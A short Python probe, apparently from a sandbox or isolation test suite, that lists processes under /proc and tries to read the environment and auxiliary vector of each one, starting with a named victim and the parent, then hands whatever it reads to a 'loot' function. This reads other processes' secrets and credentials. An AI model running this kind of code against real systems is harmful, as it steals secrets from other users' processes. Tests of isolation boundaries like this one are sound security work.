"""Reads the environment and the auxiliary vector of every process it can name, the victim and the parent first."""
# walls: pid_namespace proc landlock
# observe: unread
# depth: yes
import os

numbers = {1, aim.victim, os.getppid()}
try:
    numbers |= {int(name) for name in os.listdir("/proc") if name.isdigit()}
except OSError as error:
    tried(f"/proc: {error.strerror}")

for number in sorted(numbers - {os.getpid()}):
    for name in ("environ", "auxv", f"task/{number}/environ"):
        try:
            with open(f"/proc/{number}/{name}", "rb") as file:
                loot(file.read(65536))
            tried(f"/proc/{number}/{name}: read")
        except OSError as error:
            tried(f"/proc/{number}/{name}: {error.strerror}")
